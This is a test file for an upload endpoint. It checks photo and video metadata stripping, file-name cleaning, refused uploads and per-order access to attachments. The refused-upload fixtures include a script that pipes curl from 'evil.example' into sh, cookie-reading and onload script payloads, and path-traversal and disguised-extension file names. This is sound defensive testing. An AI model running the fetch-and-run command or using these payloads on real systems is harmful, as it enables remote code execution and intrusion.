// Evidence uploads through the public boundary: verify-attachment with real multipart bodies, the
// attachment served back to its own session only, and what the claims module calls to link them.
import { readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { AttachmentSchema } from '@rc/contract/claims/calls';
import { callPath } from '@rc/contract/routes';
import { ERROR_CODES } from '@rc/domain/error-codes';
import { and, eq, sql } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attachments, claims, orders, policies } from '../../src/db/schema';
import { AppError } from '../../src/lib/app-error';
import { ATTACHMENT_PATH } from '../../src/modules/evidence/routes';
import {
  bmp24,
  hasGpsTag,
  icoWithPng,
  jpegWithGps,
  minimalAvi,
  minimalMp4,
  movWithLocation,
  PHONE_LOCATION,
  pngWithAlpha,
} from '../fixtures/media';
import { type FormPart, fileBody, multipartBody } from '../fixtures/multipart';
import { expectFailure, fieldsOf } from '../support/envelope';
import { createTestApp, signInToDemo, type TestApp } from '../support/test-app';

const UPLOAD = callPath('verify-attachment');

let t: TestApp;
const shopper = { cookie: '', orderId: '' };
const otherShopper = { cookie: '', orderId: '' };

async function orderIdOf(orderName: string): Promise<string> {
  const [row] = await t.database.db
    .select({ id: orders.id })
    .from(orders)
    .where(eq(orders.orderName, orderName));
  if (!row) throw new Error(`no order ${orderName}`);
  return row.id;
}

async function signIn(orderName: string) {
  const { cookie } = await signInToDemo(t, orderName);
  return { cookie, orderId: await orderIdOf(orderName) };
}

beforeAll(async () => {
  // Many uploads in one session: the upload rate (order-evidence-limits.test.ts) is out of the way.
  t = await createTestApp({ demo: true, env: { UPLOAD_LIMIT_PER_WINDOW: '1000' } });
  Object.assign(shopper, await signIn('#1001'));
  Object.assign(otherShopper, await signIn('#1005'));
});
afterAll(() => t.close());

function upload(
  cookie: string | undefined,
  body: { payload: Buffer | string; contentType: string },
  language?: string,
) {
  return t.app.inject({
    method: 'POST',
    url: UPLOAD,
    payload: body.payload,
    headers: {
      'content-type': body.contentType,
      ...(cookie ? { cookie } : {}),
      ...(language ? { 'accept-language': language } : {}),
    },
  });
}

function fetchAttachment(cookie: string | undefined, id: string, headers: Record<string, string> = {}) {
  return t.app.inject({
    method: 'GET',
    url: `${ATTACHMENT_PATH}/${id}`,
    headers: { ...(cookie ? { cookie } : {}), ...headers },
  });
}

/** Every file under the uploads folder, relative to it. */
function storedFiles(): string[] {
  const root = path.join(t.config.DATA_DIR, 'uploads');
  const walk = (dir: string): string[] => {
    let names: string[];
    try {
      names = readdirSync(dir);
    } catch {
      return [];
    }
    return names.flatMap((name) => {
      const full = path.join(dir, name);
      return statSync(full).isDirectory() ? walk(full) : [path.relative(root, full)];
    });
  };
  return walk(root).sort();
}

async function attachmentRows() {
  return t.database.db.select().from(attachments).orderBy(attachments.createdAt);
}

/** Runs `act` and checks that it left no file and no row behind. */
async function expectNothingStored(act: () => Promise<void>) {
  const files = storedFiles();
  const rows = (await attachmentRows()).length;
  await act();
  expect(storedFiles()).toEqual(files);
  expect((await attachmentRows()).length).toBe(rows);
}

async function uploadOk(cookie: string, fileName: string, data: Buffer) {
  const response = await upload(cookie, fileBody(fileName, data));
  expect(response.statusCode, response.body).toBe(200);
  const body = response.json() as { code: number; data: unknown };
  expect(body.code).toBe(0);
  return AttachmentSchema.parse(body.data);
}

describe('verify-attachment: accepted uploads', () => {
  it('re-encodes a photo: orientation applied, EXIF with the GPS position gone, stored under a generated name', async () => {
    const original = await jpegWithGps({ width: 320, height: 240, orientation: 6 });
    const before = await sharp(original).metadata();
    expect(hasGpsTag(before.exif)).toBe(true);

    const attachment = await uploadOk(shopper.cookie, 'IMG_0001 (Mum’s house).JPG', original);
    expect(attachment).toMatchObject({
      kind: 'image',
      fileName: 'IMG_0001 (Mum’s house).jpg',
      url: `${ATTACHMENT_PATH}/${attachment.attachmentId}`,
    });

    const [row] = await t.database.db
      .select()
      .from(attachments)
      .where(eq(attachments.id, attachment.attachmentId));
    expect(row).toMatchObject({
      orderId: shopper.orderId,
      claimId: null,
      kind: 'image',
      mimeType: 'image/jpeg',
    });
    expect(row?.storageKey).toMatch(new RegExp(`^${shopper.orderId}/[0-9a-f-]{36}\\.jpg$`));
    expect(storedFiles()).toContain(row?.storageKey);

    const served = await fetchAttachment(shopper.cookie, attachment.attachmentId);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(Number(served.headers['content-length'])).toBe(attachment.sizeBytes);
    expect(served.rawPayload.length).toBe(attachment.sizeBytes);
    const after = await sharp(served.rawPayload).metadata();
    expect(after.format).toBe('jpeg');
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.iptc).toBeUndefined();
    expect(served.rawPayload.includes(Buffer.from('Exif\0\0', 'latin1'))).toBe(false);
    expect(served.rawPayload.includes(Buffer.from('Jane Shopper'))).toBe(false);
    // Orientation 6 (rotate 90°) is applied to the pixels, then dropped with the rest.
    expect([after.width, after.height, after.orientation]).toEqual([240, 320, undefined]);
  });

  it('serves the attachment to its session with the download headers', async () => {
    const attachment = await uploadOk(shopper.cookie, 'box.jpg', await jpegWithGps());
    const served = await fetchAttachment(shopper.cookie, attachment.attachmentId);
    expect(served.statusCode).toBe(200);
    expect(served.headers).toMatchObject({
      'content-type': 'image/jpeg',
      'content-disposition': `inline; filename="box.jpg"; filename*=UTF-8''box.jpg`,
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
      'content-security-policy': "default-src 'none'; sandbox",
      etag: `"${attachment.attachmentId}"`,
    });
    const again = await fetchAttachment(shopper.cookie, attachment.attachmentId, {
      'if-none-match': `"${attachment.attachmentId}"`,
    });
    expect(again.statusCode).toBe(304);
    expect(again.rawPayload.length).toBe(0);
  });

  it('keeps a PNG with transparency as PNG, without its metadata', async () => {
    const original = await sharp(await pngWithAlpha())
      .withMetadata()
      .png()
      .toBuffer();
    const attachment = await uploadOk(shopper.cookie, 'scratch.png', original);
    const served = await fetchAttachment(shopper.cookie, attachment.attachmentId);
    expect(served.headers['content-type']).toBe('image/png');
    const metadata = await sharp(served.rawPayload).metadata();
    expect([metadata.format, metadata.hasAlpha, metadata.exif]).toEqual(['png', true, undefined]);
    expect(attachment.fileName).toBe('scratch.png');
  });

  it('turns an opaque PNG, WebP, GIF or TIFF into a JPEG named for what it now is', async () => {
    const base = sharp({ create: { width: 64, height: 48, channels: 3, background: '#884422' } });
    for (const [name, data] of [
      ['screen.png', await base.clone().png().toBuffer()],
      ['photo.webp', await base.clone().webp().toBuffer()],
      ['still.gif', await base.clone().gif().toBuffer()],
      ['scan.tiff', await base.clone().tiff().toBuffer()],
    ] as const) {
      const attachment = await uploadOk(otherShopper.cookie, name, data);
      expect(attachment.fileName).toBe(`${name.split('.')[0]}.jpg`);
      const served = await fetchAttachment(otherShopper.cookie, attachment.attachmentId);
      expect((await sharp(served.rawPayload).metadata()).format).toBe('jpeg');
    }
    await t.services.evidence.deleteUnlinkedOlderThan(0);
  });

  it('reads BMP and ICO, which the image library cannot, and stores them re-encoded', async () => {
    const bmp = bmp24(30, 20, (x, y) => [x * 8, y * 12, 100]);
    const fromBmp = await uploadOk(shopper.cookie, 'paint.bmp', bmp);
    const servedBmp = await fetchAttachment(shopper.cookie, fromBmp.attachmentId);
    const { data, info } = await sharp(servedBmp.rawPayload).raw().toBuffer({ resolveWithObject: true });
    expect([info.width, info.height]).toEqual([30, 20]);
    // The top-left pixel is (0, 0, 100) give or take JPEG's rounding.
    expect(Math.abs((data[2] as number) - 100)).toBeLessThan(12);

    const fromIco = await uploadOk(
      shopper.cookie,
      'favicon.ico',
      icoWithPng(await pngWithAlpha(32, 32), 32, 32),
    );
    expect(fromIco.fileName).toBe('favicon.png');
    const servedIco = await fetchAttachment(shopper.cookie, fromIco.attachmentId);
    expect((await sharp(servedIco.rawPayload).metadata()).hasAlpha).toBe(true);
  });

  it('caps a large photo at 4096 px on its long side', async () => {
    const wide = await sharp({ create: { width: 6000, height: 1000, channels: 3, background: '#336699' } })
      .jpeg()
      .toBuffer();
    const attachment = await uploadOk(otherShopper.cookie, 'panorama.jpg', wide);
    const served = await fetchAttachment(otherShopper.cookie, attachment.attachmentId);
    const metadata = await sharp(served.rawPayload).metadata();
    expect([metadata.width, metadata.height]).toEqual([4096, 683]);
    await t.services.evidence.deleteUnlinkedOlderThan(0);
  });

  it('stores an MP4, a QuickTime movie and an AVI as received, offered as downloads, with ranges', async () => {
    for (const [name, data, mimeType] of [
      ['unboxing.mp4', minimalMp4('isom'), 'video/mp4'],
      ['IMG_0002.MOV', minimalMp4('qt  '), 'video/quicktime'],
      ['old-camera.avi', minimalAvi(), 'video/x-msvideo'],
    ] as const) {
      const attachment = await uploadOk(otherShopper.cookie, name, data);
      expect(attachment).toMatchObject({ kind: 'video', sizeBytes: data.length });
      const served = await fetchAttachment(otherShopper.cookie, attachment.attachmentId);
      expect(served.headers['content-type']).toBe(mimeType);
      expect(served.headers['content-disposition']).toMatch(/^attachment; filename="/);
      expect(served.rawPayload.equals(data)).toBe(true);

      const part = await fetchAttachment(otherShopper.cookie, attachment.attachmentId, {
        range: 'bytes=4-11',
      });
      expect(part.statusCode).toBe(206);
      expect(part.headers['content-range']).toBe(`bytes 4-11/${data.length}`);
      expect(part.rawPayload.equals(data.subarray(4, 12))).toBe(true);
      const outside = await fetchAttachment(otherShopper.cookie, attachment.attachmentId, {
        range: `bytes=${data.length}-`,
      });
      expect(outside.statusCode).toBe(416);
      expect(outside.headers['content-range']).toBe(`bytes */${data.length}`);
    }
    await t.services.evidence.deleteUnlinkedOlderThan(0);
  });

  it("blanks a video's metadata (location, owner, XMP) in place and keeps every other byte", async () => {
    for (const [name, data, secrets, kept] of [
      [
        'IMG_0003.MOV',
        movWithLocation(),
        [PHONE_LOCATION, "Jane's iPhone", 'xmpmeta'],
        ['mvhd', 'tkhd', 'mdat'],
      ],
      ['camcorder.avi', minimalAvi({ artist: 'Jane Shopper' }), ['Jane Shopper'], ['hdrl', 'movi']],
    ] as const) {
      for (const secret of secrets) expect(data.includes(Buffer.from(secret))).toBe(true);
      const attachment = await uploadOk(otherShopper.cookie, name, data);
      const served = (await fetchAttachment(otherShopper.cookie, attachment.attachmentId)).rawPayload;
      expect(served.length).toBe(data.length);
      for (const secret of secrets) expect(served.includes(Buffer.from(secret))).toBe(false);
      // What players need stays where it was, byte for byte.
      for (const marker of kept) {
        const at = data.indexOf(Buffer.from(marker));
        expect(served.indexOf(Buffer.from(marker))).toBe(at);
        expect(served.subarray(at - 4, at + 60).equals(data.subarray(at - 4, at + 60))).toBe(true);
      }
    }
    await t.services.evidence.deleteUnlinkedOlderThan(0);
  });

  it('keeps a cleaned display name: no path, no control or direction characters, at most 120 characters', async () => {
    const png = await pngWithAlpha(8, 8);
    const cases: [string, string][] = [
      ['C:\\Users\\jane\\Desktop\\crack.png', 'crack.png'],
      ['../../etc/passwd.png', 'passwd.png'],
      ['invoice\u202Egnp.exe.png', 'invoicegnp.exe.png'],
      ['line\tbreak\u0007.png', 'line break.png'],
      [`${'ä'.repeat(200)}.png`, `${'ä'.repeat(116)}.png`],
      ['.png', 'png.png'],
      ['...', 'attachment.png'],
    ];
    for (const [sent, shown] of cases) {
      const attachment = await uploadOk(otherShopper.cookie, sent, png);
      expect(attachment.fileName).toBe(shown);
    }
    const [row] = await attachmentRows().then((rows) => rows.filter((r) => r.fileName.startsWith('ä')));
    const served = await fetchAttachment(otherShopper.cookie, row?.id as string);
    expect(served.headers['content-disposition']).toBe(
      `inline; filename="${'_'.repeat(116)}.png"; filename*=UTF-8''${encodeURIComponent('ä'.repeat(116))}.png`,
    );
    await t.services.evidence.deleteUnlinkedOlderThan(0);
  });
});

describe('verify-attachment: refused uploads leave nothing behind', () => {
  const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
  const html = Buffer.from(
    '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
  );
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
  const svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
  );
  const zip = Buffer.from('504b0304140000000800000000000000000000000000000000000500000061', 'hex');

  it.each([
    ['a shell script named photo.jpg', 'photo.jpg', script, 'en-US'],
    ['an HTML page named scratch.png', 'scratch.png', html, 'de-DE'],
    ['a PDF named receipt.jpg', 'receipt.jpg', pdf, 'fr-FR'],
    ['an SVG with a script named logo.gif', 'logo.gif', svg, 'it-IT'],
    ['a zip archive (spec 5 lists .zip; we take no archives)', 'photos.zip', zip, 'es-ES'],
  ])('refuses %s with 415 and 100006 in the caller’s language', async (_what, name, data, language) => {
    await expectNothingStored(async () => {
      const response = await upload(shopper.cookie, fileBody(name, data, 'image/jpeg'), language);
      expectFailure(response, { status: 415, code: ERROR_CODES.UNSUPPORTED_MEDIA_TYPE, language });
    });
  });

  it('refuses a truncated JPEG as an unreadable image (400, 100002)', async () => {
    const photo = await jpegWithGps({ width: 400, height: 300 });
    await expectNothingStored(async () => {
      const response = await upload(
        shopper.cookie,
        fileBody('cut.jpg', photo.subarray(0, photo.length * 0.6)),
      );
      const body = expectFailure(response, { status: 400, code: ERROR_CODES.INVALID_INPUT });
      expect(fieldsOf(body)).toEqual([{ path: 'file', problem: 'unreadable image' }]);
    });
  });

  it('refuses a cut-off video and bytes that only start like one (400, 100002)', async () => {
    const video = minimalMp4();
    for (const data of [video.subarray(0, video.length - 10), Buffer.concat([video.subarray(0, 32), html])]) {
      await expectNothingStored(async () => {
        const body = expectFailure(await upload(shopper.cookie, fileBody('clip.mp4', data)), {
          status: 400,
          code: ERROR_CODES.INVALID_INPUT,
        });
        expect(fieldsOf(body)).toEqual([{ path: 'file', problem: 'unreadable video' }]);
      });
    }
  });

  it('refuses two files in one request', async () => {
    const png = await pngWithAlpha(8, 8);
    await expectNothingStored(async () => {
      const body = multipartBody([
        { name: 'file', fileName: 'a.png', data: png },
        { name: 'file', fileName: 'b.png', data: png },
      ]);
      const answer = expectFailure(await upload(shopper.cookie, body), {
        status: 400,
        code: ERROR_CODES.INVALID_INPUT,
      });
      expect(fieldsOf(answer)).toEqual([{ path: 'file', problem: 'one file per request' }]);
    });
  });

  it.each<[string, FormPart[], { path: string; problem: RegExp }]>([
    ['an empty form', [], { path: 'file', problem: /^required$/ }],
    [
      'only a text field',
      [{ name: 'comment', data: 'hello' }],
      { path: 'comment', problem: /unexpected field/ },
    ],
    [
      'the file in another field',
      [{ name: 'upload', fileName: 'a.png', data: Buffer.from('x') }],
      { path: 'upload', problem: /unexpected field/ },
    ],
    [
      'an empty file',
      [{ name: 'file', fileName: 'a.png', data: Buffer.alloc(0) }],
      { path: 'file', problem: /empty file/ },
    ],
  ])('refuses %s (400, 100002)', async (_what, parts, field) => {
    await expectNothingStored(async () => {
      const answer = expectFailure(await upload(shopper.cookie, multipartBody(parts)), {
        status: 400,
        code: ERROR_CODES.INVALID_INPUT,
      });
      const [only] = fieldsOf(answer);
      expect(only?.path).toBe(field.path);
      expect(only?.problem).toMatch(field.problem);
    });
  });

  it('refuses a body that is not multipart (415) and a broken multipart body (400)', async () => {
    await expectNothingStored(async () => {
      expectFailure(await upload(shopper.cookie, { payload: '{}', contentType: 'application/json' }), {
        status: 415,
        code: ERROR_CODES.UNSUPPORTED_MEDIA_TYPE,
      });
      expectFailure(
        await upload(shopper.cookie, { payload: 'file=x', contentType: 'application/x-www-form-urlencoded' }),
        {
          status: 415,
          code: ERROR_CODES.UNSUPPORTED_MEDIA_TYPE,
        },
      );
      const body = fileBody('a.png', await pngWithAlpha(8, 8));
      const cut = {
        payload: body.payload.subarray(0, body.payload.length - 30),
        contentType: body.contentType,
      };
      expectFailure(await upload(shopper.cookie, cut), { status: 400, code: ERROR_CODES.INVALID_INPUT });
      expectFailure(
        await upload(shopper.cookie, { payload: body.payload, contentType: 'multipart/form-data' }),
        {
          status: 400,
          code: ERROR_CODES.INVALID_INPUT,
        },
      );
    });
  });

  it('refuses an upload without a session (401, 100008)', async () => {
    await expectNothingStored(async () => {
      expectFailure(await upload(undefined, fileBody('a.png', await pngWithAlpha(8, 8))), {
        status: 401,
        code: ERROR_CODES.NOT_SIGNED_IN,
      });
    });
  });

  it('refuses the 21st upload no claim uses yet (400, 100002, too many files)', async () => {
    const third = await signIn('#1006');
    const png = await pngWithAlpha(8, 8);
    for (let index = 0; index < 20; index += 1) await uploadOk(third.cookie, `p${index}.png`, png);
    await expectNothingStored(async () => {
      const answer = expectFailure(await upload(third.cookie, fileBody('p20.png', png)), {
        status: 400,
        code: ERROR_CODES.INVALID_INPUT,
      });
      expect(fieldsOf(answer)).toEqual([{ path: 'file', problem: 'too many files' }]);
    });
    // Other orders are not affected.
    await uploadOk(otherShopper.cookie, 'fine.png', png);
    await t.services.evidence.deleteUnlinkedOlderThan(0);
  });
});

describe('the attachment belongs to its order', () => {
  async function claimFor(orderId: string): Promise<string> {
    const [policy] = await t.database.db.select().from(policies).where(eq(policies.orderId, orderId));
    const [order] = await t.database.db.select().from(orders).where(eq(orders.id, orderId));
    if (!policy || !order) throw new Error('demo order without a policy');
    const [claim] = await t.database.db
      .insert(claims)
      .values({
        claimNumber: `T-${Math.random().toString(36).slice(2, 10)}`,
        merchantId: order.merchantId,
        orderId,
        policyId: policy.id,
        issueType: 'damaged',
        status: 'draft',
        currency: policy.currency,
      })
      .returning();
    return claim?.id as string;
  }

  it("is not served to another order's session, nor to none (404 100009, 401 100008)", async () => {
    const attachment = await uploadOk(shopper.cookie, 'mine.jpg', await jpegWithGps());
    expectFailure(await fetchAttachment(otherShopper.cookie, attachment.attachmentId), {
      status: 404,
      code: ERROR_CODES.NOT_FOUND_FOR_ORDER,
    });
    expectFailure(await fetchAttachment(undefined, attachment.attachmentId), {
      status: 401,
      code: ERROR_CODES.NOT_SIGNED_IN,
    });
    for (const id of ['00000000-0000-4000-8000-000000000000', 'not-a-uuid', '..%2F..%2Fetc%2Fpasswd']) {
      expectFailure(await fetchAttachment(shopper.cookie, id), {
        status: 404,
        code: ERROR_CODES.NOT_FOUND_FOR_ORDER,
      });
    }
  });

  it("links to the order's own claim only; lists and counts a claim's evidence", async () => {
    const mine = await uploadOk(shopper.cookie, 'dent.jpg', await jpegWithGps());
    const clip = await uploadOk(shopper.cookie, 'dent.mp4', minimalMp4());
    const myClaim = await claimFor(shopper.orderId);
    const theirClaim = await claimFor(otherShopper.orderId);
    const evidence = t.services.evidence;

    // Another order cannot take it, even onto its own claim.
    const stolen = await t.database.db
      .transaction((tx) =>
        evidence.linkToClaim(tx, {
          orderId: otherShopper.orderId,
          claimId: theirClaim,
          attachmentIds: [mine.attachmentId],
        }),
      )
      .catch((error: unknown) => error);
    expect(stolen).toBeInstanceOf(AppError);
    expect((stolen as AppError).code).toBe(ERROR_CODES.NOT_FOUND_FOR_ORDER);
    expect(await evidence.attachmentsForOrder(otherShopper.orderId, [mine.attachmentId])).toEqual([]);

    await t.database.db.transaction((tx) =>
      evidence.linkToClaim(tx, {
        orderId: shopper.orderId,
        claimId: myClaim,
        attachmentIds: [mine.attachmentId, clip.attachmentId, mine.attachmentId],
      }),
    );
    // Linking again to the same claim is fine; to another claim of the same order is not.
    await t.database.db.transaction((tx) =>
      evidence.linkToClaim(tx, {
        orderId: shopper.orderId,
        claimId: myClaim,
        attachmentIds: [mine.attachmentId],
      }),
    );
    const secondClaim = await claimFor(shopper.orderId);
    const taken = await t.database.db
      .transaction((tx) =>
        evidence.linkToClaim(tx, {
          orderId: shopper.orderId,
          claimId: secondClaim,
          attachmentIds: [mine.attachmentId],
        }),
      )
      .catch((error: unknown) => error);
    expect((taken as AppError).code).toBe(ERROR_CODES.NOT_FOUND_FOR_ORDER);

    expect(await evidence.listForClaim(myClaim)).toEqual([mine, clip]);
    expect(await evidence.countForClaim(myClaim)).toEqual({ images: 1, videos: 1 });
    const rows = await evidence.attachmentsForOrder(shopper.orderId, [
      mine.attachmentId,
      clip.attachmentId,
      'junk',
    ]);
    expect(rows.map((row) => [row.id, row.claimId])).toEqual([
      [mine.attachmentId, myClaim],
      [clip.attachmentId, myClaim],
    ]);

    // Replacing a draft's evidence frees what it no longer lists.
    await t.database.db.transaction((tx) =>
      evidence.replaceForClaim(tx, {
        orderId: shopper.orderId,
        claimId: myClaim,
        attachmentIds: [clip.attachmentId],
      }),
    );
    expect(await evidence.countForClaim(myClaim)).toEqual({ images: 0, videos: 1 });

    // The sweep removes uploads no claim uses, rows and files, and keeps the claim's.
    const freed = await t.database.db.select().from(attachments).where(eq(attachments.id, mine.attachmentId));
    await evidence.deleteUnlinkedOlderThan(0);
    expect(
      await evidence.attachmentsForOrder(shopper.orderId, [mine.attachmentId, clip.attachmentId]),
    ).toHaveLength(1);
    expect(storedFiles()).not.toContain(freed[0]?.storageKey);
    const kept = await fetchAttachment(shopper.cookie, clip.attachmentId);
    expect(kept.statusCode).toBe(200);
  });

  it('holds a claim to 20 attachments', async () => {
    const claim = await claimFor(otherShopper.orderId);
    const png = await pngWithAlpha(8, 8);
    const ids: string[] = [];
    for (let round = 0; round < 2; round += 1) {
      const batch: string[] = [];
      for (let index = 0; index < (round === 0 ? 20 : 1); index += 1) {
        batch.push((await uploadOk(otherShopper.cookie, `e${index}.png`, png)).attachmentId);
      }
      ids.push(...batch);
      const linked = await t.database.db
        .transaction((tx) =>
          t.services.evidence.linkToClaim(tx, {
            orderId: otherShopper.orderId,
            claimId: claim,
            attachmentIds: batch,
          }),
        )
        .catch((error: unknown) => error);
      if (round === 0) expect(linked).toBeUndefined();
      else {
        expect((linked as AppError).code).toBe(ERROR_CODES.INVALID_INPUT);
        expect((linked as AppError).options.data).toEqual({
          fields: [{ path: 'attachments', problem: 'too many files' }],
        });
      }
    }
    const [counted] = await t.database.db
      .select({ total: sql<number>`count(*)::int` })
      .from(attachments)
      .where(and(eq(attachments.claimId, claim)));
    expect(counted?.total).toBe(20);
    expect(ids).toHaveLength(21);
  });
});
